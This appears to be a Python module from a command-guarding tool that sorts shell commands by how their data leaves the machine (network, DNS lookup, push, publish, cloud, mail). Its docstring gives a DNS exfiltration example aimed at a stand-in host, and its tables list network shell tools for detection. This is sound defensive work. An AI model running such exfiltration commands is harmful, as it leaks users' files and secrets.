"""What leaves this machine must stand in the command: a host, a path, a query, a header, a name that is looked up.

A word that only data decide can carry a file out (`dig $(base64 f).evil.example`). It is asked about for every program
below, whatever its row makes of its words, and for every option whose row says `sends`.

The same tables say how what a command is given leaves this machine (`Action.leaves`, `leaves_to`), and whether what it
shows may have been written by a stranger (`Action.brings`): what the rules of flow are about (policy/flow.py).

| leaves | |
|---|---|
| network | to an address in the command: a body, a query, a header, a path |
| lookup | a name that is looked up: its servers learn it |
| push, publish, forge, cloud, mail | to a remote, a registry, an issue or pull request, an account, a mailbox |
"""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from askfirst.digest import sha256_hex
from askfirst.knowledge.addresses import address_of, is_of_this_network, is_plain_page
from askfirst.knowledge.programs import PUBLISHES as SEEN_BY_OTHERS
from askfirst.model import Fact, Kind, Read, Sends, Unknown, Word

if TYPE_CHECKING:
    from askfirst.model import Action, Fact, Word
    from askfirst.shell.call import Analyst, Call, Outcome

__all__ = [
    "TO_ADDRESS",
    "TO_SETTINGS",
    "alternatives",
    "files_behind",
    "is_address",
    "is_plain_pattern",
    "leaving",
    "sends",
    "sent_fact",
    "with_sending",
]


# Program -> the sub-commands that send what they are given; `*` is all of them.
TO_ADDRESS: dict[str, str] = {
    **dict.fromkeys(
        "curl wget ping ping6 traceroute traceroute6 mtr dig nslookup host getent arp ss fuser ssh "
        "slogin mosh autossh scp sftp ssh-copy-id sshfs rsync nc ncat netcat socat telnet ftp lftp aria2c yt-dlp "
        "http https xh tftp nmap ssh-keyscan dns-sd psql mysql mariadb sqlcmd redis-cli mongosh pg_isready".split(),
        "*",
    ),
    "openssl": "s_client",
    "deno": "check lint test",
    "git": "fetch ls-remote pull push clone remote submodule",
}
TO_SETTINGS: dict[str, str] = {
    **dict.fromkeys(
        "gh glab hub aws gcloud az flyctl fly heroku vercel netlify firebase wrangler railway serverless sls amplify "
        "doctl linode-cli hcloud supabase surge eb sam copilot now gsutil bq rclone s3cmd kubectl oc k3s-kubectl helm "
        "argocd flux istioctl talosctl eksctl pulumi auth0 ansible ansible-playbook ansible-console".split(),
        "*",
    ),
    **dict.fromkeys(
        ("npm", "yarn", "pnpm", "bun"),
        "view v info show search s se find outdated ping audit access whoami doctor diff stars npm pm",
    ),
    "pip": "index download",
    "cargo": "search info audit",
    "go": "list",
    "gem": "list info query outdated specification dependency",
    "bundle": "outdated",
    "composer": "show outdated audit",
    "brew": "info search desc cat home fetch tap-info log which-formula outdated",
    "ansible-galaxy": "role collection",
    **dict.fromkeys(("docker", "podman"), "search manifest buildx pull push"),
    **dict.fromkeys(("terraform", "tofu"), "plan providers"),
}

MAILERS = frozenset("mail mailx s-nail nail mutt neomutt sendmail msmtp ssmtp swaks".split())
LOGINS = frozenset("ssh slogin mosh autossh".split())  # what they run there is judged by itself
COPIERS = frozenset("scp rsync sftp".split())
FORGES = frozenset("gh glab hub".split())
# Program -> the sub-commands that make something public, or put it into a registry.
PUBLISHES: dict[str, str] = {
    **dict.fromkeys(
        "npm pnpm bun poetry uv pdm flit hatch cargo vsce ovsx jsr deno wasm-pack gradle".split(), "publish"
    ),
    **dict.fromkeys("docker podman nerdctl helm oras crane gem".split(), "push"),
    **dict.fromkeys(("twine", "anaconda"), "upload"),
    **dict.fromkeys(("dart", "flutter"), "pub"),
    "yarn": "publish npm",
    "mvn": "deploy",
    "mix": "hex.publish",
    "pod": "trunk",
    "dotnet": "nuget",
    "skopeo": "copy",
}
# Their rows look at every value that a loop gives to a word (`Word.each`).
TAKES_EACH = frozenset("curl wget ping ping6".split())
LOOKUPS = frozenset("ping ping6 traceroute traceroute6 mtr dig nslookup host getent nmap ssh-keyscan dns-sd".split())
# These talk to the machine in their settings, mostly this one: only one that the command names is somewhere else.
DATABASES = frozenset("psql mysql mariadb sqlcmd redis-cli mongosh pg_isready".split())
# These look at this machine; only a name in their words (`ss dst NAME`) is looked up.
_LOOKS_HERE = ("git", "arp", "ss", "fuser")
# `git fetch` asks a remote that somebody has set up; only an address in the command says anything to anybody else.
GIT_ASKS = frozenset("fetch ls-remote pull submodule clone".split())
FETCHERS = frozenset("curl wget http https xh aria2c yt-dlp lynx w3m links elinks ftp lftp tftp".split())
# What a forge shows that anybody may have written.
WRITTEN_BY_ANYBODY = frozenset("issue pr mr api release search gist discussion run browse".split())
PACKAGE_PAGES = frozenset("npm yarn pnpm bun pip cargo gem composer brew ansible-galaxy docker podman".split())
# Options by which a fetch says more than its address. A bundle of short ones counts by its letters.
SAYS_MORE = (
    "--data --form --upload --header --cookie --user --referer --post --body --request --method --json --url-query "
    "--get --config --variable --proxy"
).split()
SAYS_MORE_SHORT = frozenset("dFTHbuAeXGKx")


MAX_NAMED = 4


def plain_key(key: tuple[str, ...]) -> tuple[str, ...]:
    """`python3 -m pip index` and `pip3.12 index` are `pip index`."""
    if key[1:2] == ("-m",) and key[0].startswith("python"):
        key = key[2:]
    return ("pip", *key[1:]) if key[:1] and key[0].startswith("pip3") else key


def sends(key: tuple[str, ...]) -> Sends:
    """To whom an action sends what it is given, by the words that name it."""
    program, verb = (*plain_key(key), "", "")[:2]
    for table, kind in ((TO_ADDRESS, Sends.ADDRESS), (TO_SETTINGS, Sends.SETTINGS)):
        verbs = table.get(program, "").split()
        if verbs == ["*"] or verb in verbs:
            return kind
    return Sends.NOTHING


def with_sending(outcome: Outcome, call: Call) -> Outcome:
    """The outcome of a call, with what it sends."""
    kind = max(sends(outcome.action.key), outcome.action.sends)
    how, to = leaving(outcome.action, kind, call)
    brings = brought(outcome.action, kind)
    if how == "publish" and not outcome.action.danger and _is_meant(call):
        outcome = replace(outcome, action=replace(outcome.action, danger=SEEN_BY_OTHERS))
    if how or brings:
        outcome = replace(outcome, action=replace(outcome.action, leaves=how, leaves_to=to, brings=brings))
    if kind == Sends.NOTHING:
        return outcome
    said = {f.text for f in outcome.facts if isinstance(f, Unknown)}
    # What asks anyway is shown to a person with all its words.
    words = [w for w in call.words[1:] if w.text not in said] if outcome.action.allowed else []
    facts = [f for w in words for f in sent_fact(w, call, call.name)]
    return replace(outcome, action=replace(outcome.action, sends=kind), facts=(*outcome.facts, *facts))


def _is_meant(call: Call) -> bool:
    """Whether it puts something there: `dart pub get` and `poetry publish --dry-run` do not."""
    words = [w.shown for w in call.words[1:]]
    return not _PUTS.isdisjoint(words[:4]) and "--dry-run" not in words and "-n" not in words


_PUTS = frozenset("publish push upload deploy hex.publish".split())


def leaving(action: Action, kind: Sends, call: Call) -> tuple[str, str]:
    """(how, to whom): what it is given leaves this machine. ("", "") where it stays, or where only a page is named that
    everybody knows."""
    program, verb = (*plain_key(action.key), "", "")[:2]
    words = _known_words(call)
    hosts = [host for word in words for host in _hosts(word)]
    by_name = _leaving_by_name(action, kind)
    if by_name:
        return by_name, _to_whom(by_name, action, words, hosts)
    named = hosts and _may_name_address(action, program, verb)
    if not (named or _goes_to_address(kind, program, verb)) or _is_known_page(words):
        return "", ""
    return ("lookup" if program in LOOKUPS else "network"), _receivers(program, words, hosts, action.target) or program


def _receivers(program: str, words: list[str], hosts: list[str], target: str) -> str:
    """Everybody who is sent something: a yes to one of them is none to the others."""
    if program in LOGINS:
        return target
    if program in FETCHERS:
        return _servers(words, target)
    if program in COPIERS:
        hosts = [
            w.partition(":")[0] for w in words if ":" in w.split("/")[0] and "://" not in w and w[0] != "-"
        ] or hosts
    first = next((w for w in words if not w.startswith("-")), "")
    return _together(list(dict.fromkeys(hosts)) or [target or first])


def _servers(words: list[str], target: str) -> str:
    """Of a fetch: the addresses among its words, and what only its row knows to be one (`curl host/x`)."""
    if target.partition(":")[0].endswith(".0/24"):
        return target
    hosts = [host for word in words if " " not in word for host in _hosts(word)]  # an address in a body is not meant
    known = {host.rpartition("://")[2] for host in hosts}
    if ", " not in target:
        known |= {host.partition(":")[0] for host in known}
    others = (t.removesuffix(":80").removesuffix(":443") for t in target.split(", "))
    return _together([*dict.fromkeys(hosts), *(t for t in others if t and t not in known)])


def _together(found: list[str]) -> str:
    if len(found) <= MAX_NAMED:
        return ", ".join(found)
    return f"{found[0]} and {len(found) - 1} others ({sha256_hex(' '.join(found))[:12]})"


def alternatives(word: Word) -> tuple[Word, ...]:
    """What a word stands for: itself, or everything that a loop gives to it."""
    return word.among if word.each else (word,)


def _known_words(call: Call) -> list[str]:
    words = (one for word in call.words[1:] for one in alternatives(word))
    return [w.value if w.value is not None else w.prefix or w.text for w in words]


def _leaving_by_name(action: Action, kind: Sends) -> str:
    """How it leaves where the words that name the action say so."""
    program, verb = (*plain_key(action.key), "", "")[:2]
    if program in MAILERS or (program, verb) == ("git", "send-email"):
        return "mail"
    if (program, verb) == ("git", "push"):
        return "push"
    if verb in PUBLISHES.get(program, "").split():
        return "publish"
    if kind != Sends.SETTINGS or action.kind in (Kind.READ, Kind.INSTALL):
        return ""
    return "forge" if program in FORGES else "cloud"


def _to_whom(how: str, action: Action, words: list[str], hosts: list[str]) -> str:
    if how == "mail":
        return " ".join(w for w in words if "@" in w)[:80] or "mail"
    if how == "push":
        said = words[words.index("push") + 1 :] if "push" in words else words
        return next(iter(hosts), " ".join(w for w in said if w[:1] != "-") or "its remote")
    return f"{' '.join(action.key[:3])} {action.target}".strip()


def _goes_to_address(kind: Sends, program: str, verb: str) -> bool:
    local = program in (*DATABASES, *_LOOKS_HERE) or (program, verb) == ("getent", "passwd")
    return kind == Sends.ADDRESS and not local


def _may_name_address(action: Action, program: str, verb: str) -> bool:
    """What talks to the machine in its settings, unless the command names another."""
    if program == "git":
        return verb in GIT_ASKS
    return program in DATABASES or action.kind != Kind.READ


def _hosts(word: str) -> list[str]:
    """The machines that a word names: `https://h/x`, `git+ssh://u@h/x`, `u@h:x`, `--host=h`."""
    rest = word.partition("://")[2]
    if rest:
        found = address_of(word[word.find("http") :]) if "http" in word.partition("://")[0] else None
        if found is not None and is_of_this_network(found.host):
            return [found.host + ("" if found.port in (80, 443) else f":{found.port}")]
        host = found.pattern if found is not None else rest.split("/")[0].rpartition("@")[2]
        return [host or rest[:60]]
    if word.startswith("git@") or ("@" in word and ":" in word.partition("@")[2] and "/" not in word.partition("@")[0]):
        return [word.partition("@")[2].partition(":")[0]]
    name, _, value = word.partition("=")
    return [value] if name in ("-h", "--host", "--hostname") and value not in ("", "localhost", "127.0.0.1") else []


def _is_known_page(words: list[str]) -> bool:
    pages = [w for w in words if "://" in w]
    return bool(pages) and all(map(is_plain_page, pages)) and not any(map(_says_more, words))


def _says_more(word: str) -> bool:
    if word.startswith("--"):
        return word.startswith(tuple(SAYS_MORE))
    return word.startswith("-") and not SAYS_MORE_SHORT.isdisjoint(word[1:])


def brought(action: Action, kind: Sends) -> str:
    """Why its output may be a stranger's text; "" where it is not."""
    program, verb = (*plain_key(action.key), "", "")[:2]
    if program in FETCHERS:
        return "a page of the web"
    if (program, verb) in (("git", "clone"), ("gh", "repo"), ("glab", "repo")):
        return "a repository that was cloned" if "clone" in action.key else ""
    if program in FORGES and verb in WRITTEN_BY_ANYBODY and action.kind == Kind.READ:
        return "what anybody may write on the forge"
    if kind == Sends.SETTINGS and program in PACKAGE_PAGES and action.kind == Kind.READ:
        return "the page of a package"
    return ""


def sent_fact(word: Word, call: Call, by: str) -> list[Fact]:
    if word.value is not None or (by in TAKES_EACH and _stays_near(word)) or is_plain_pattern(word):
        return []
    words = tuple(w.shown for w in call.words)
    why = f"`{by}`: `{word.text}` is not in the command, and can carry data out"
    return [Unknown("network", why, word.text, words)]


def _stays_near(word: Word) -> bool:
    """Whether a loop asks nothing but machines of this network. One of the world that is asked a hundred things learns
    something by which of them it is asked."""
    texts = [one.value or "" for one in word.among]
    found = [address_of(text if "://" in text else f"http://{text}") for text in texts]
    return word.each and all(a is not None and (a.is_loopback or is_of_this_network(a.host)) for a in found)


def is_plain_pattern(word: Word) -> bool:
    """`localhost:3000/api?x=1` without quotes: whatever file the `?` could match, the machine stays the same."""
    rest = word.prefix.partition("://")[2] or word.prefix
    return word.glob and "/" in rest and not any(c in word.text for c in "$`~{<(\"'\\")


def is_address(word: Word) -> bool:
    """Whether a program that reads files may take a word for an address: `openssl x509 -in http://h/x`."""
    known = word.value if word.value is not None else word.prefix
    scheme, separator, _ = known.partition("://")
    return bool(separator) and scheme.isalnum() and scheme.lower() != "file"


def files_behind(call: Call, analyst: Analyst) -> list[Fact]:
    """`@FILE`, `name=@FILE`: many programs take a file's content for a word of that form."""
    found = []
    for word in call.words[1:]:
        text = word.value or ""
        at = 0 if text.startswith("@") else text.find("=@") + 1
        if len(text) > at + 1 and (at or text.startswith("@")):
            found.append(Read(analyst.path(text[at + 1 :], call.cwd), word.text, call.name))
    return list(found)
